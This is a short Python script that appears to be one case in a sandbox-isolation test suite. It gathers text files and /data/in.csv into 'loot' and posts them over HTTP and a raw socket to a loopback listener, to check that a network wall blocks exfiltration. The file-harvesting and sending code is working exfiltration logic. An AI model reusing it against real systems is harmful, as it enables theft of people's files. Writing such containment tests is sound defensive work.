# attack: post_files
# threat: network
# tries: collect files and send them to a server over HTTP
# wall: wasi_network
# native: network_namespace
# control: the listener on loopback is sent the secret
# oracle: the listener of the host saw no connection
import glob
import os
import socket
import sys
import urllib.request

print("begun", flush=True)
arena, port = sys.argv[1], int(sys.argv[2])
loot = b"nothing found"
for path in glob.glob(os.path.join(arena, "*.txt")) + ["/data/in.csv"]:
    try:
        with open(path, "rb") as file:
            loot += file.read()
    except OSError as error:
        print(error)
try:
    urllib.request.urlopen(f"http://127.0.0.1:{port}/collect", data=loot, timeout=5).read()
except OSError as error:
    print(error)
with socket.create_connection(("127.0.0.1", port), timeout=5) as connection:
    connection.sendall(loot)
